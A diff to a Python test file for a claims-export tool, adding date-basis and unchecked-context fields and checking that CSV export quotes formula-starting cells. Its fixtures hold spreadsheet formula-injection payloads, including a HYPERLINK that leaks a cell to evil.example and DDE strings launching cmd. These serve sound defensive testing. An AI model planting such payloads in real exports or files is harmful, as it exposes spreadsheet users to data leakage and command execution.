@@ -54,6 +54,8 @@ def test_claim_record_is_flat_with_rating_and_url():
         "ceiling": "very low",
         "url": "https://facts.example/models/widget-1/#open-weights",
         "developers": ["acme-labs"],
+        "date_basis": "source",
+        "unchecked_context": None,
         "citations": [
             {
                 "source": "acme-news",
@@ -103,6 +105,7 @@ def test_a_cell_that_could_start_a_formula_gets_a_quote_in_front(value, cell):
 HOSTILE_STATEMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 HOSTILE_QUOTE = "+cmd|' /C calc'!A0"
 HOSTILE_RATIONALE = "@SUM(1+1)*cmd|' /C calc'!A0"
+HOSTILE_CONTEXT = "=1+1 <b>said on stage</b>"
 
 
 def hostile_base():
@@ -111,6 +114,7 @@ def hostile_base():
         statement=HOSTILE_STATEMENT,
         rationale=HOSTILE_RATIONALE,
         notes="-1",
+        unchecked_context=HOSTILE_CONTEXT,
         citations=(cite("rival-news", "contradicts", HOSTILE_QUOTE), *OPEN_WEIGHTS.citations),
     )
     evil = registry(("evil", "\tAcme"))
@@ -125,6 +129,7 @@ def test_hostile_text_is_neutralised_in_csv_and_exact_in_json():
     assert row["statement"] == "'" + HOSTILE_STATEMENT
     assert row["rationale"] == "'" + HOSTILE_RATIONALE
     assert row["notes"] == "'-1"
+    assert row["unchecked_context"] == "'" + HOSTILE_CONTEXT and row["date_basis"] == "source"
     assert (row["model_name"], row["developer"]) == ("'=Widget", "'\tAcme")
     assert row["status_note"] == "" and row["date"] == ""
     assert row["citations"].startswith("[")  # JSON: no cell of it starts a formula, the quote stays exact
@@ -132,6 +137,15 @@ def test_hostile_text_is_neutralised_in_csv_and_exact_in_json():
     data = json.loads(claims_json(records))
     assert data[1]["statement"] == HOSTILE_STATEMENT and data[1]["rationale"] == HOSTILE_RATIONALE
     assert data[1]["citations"][0]["quote"] == HOSTILE_QUOTE and data[1]["model_name"] == "=Widget"
+    assert data[1]["unchecked_context"] == HOSTILE_CONTEXT and data[0]["unchecked_context"] is None
+
+
+def test_a_date_the_curators_supplied_is_exported_as_such():
+    supplied = dataclasses.replace(RELEASED, date_basis="curator")
+    records = claim_records(base(model(claims=(supplied, OPEN_WEIGHTS))))
+    assert [(r["date"], r["date_basis"]) for r in records] == [("2025-03-03", "curator"), (None, "source")]
+    rows = list(csv.DictReader(io.StringIO(claims_csv(records))))
+    assert [(r["date"], r["date_basis"]) for r in rows] == [("2025-03-03", "curator"), ("", "source")]
 
 
 def test_plain_text_is_written_as_it_is():
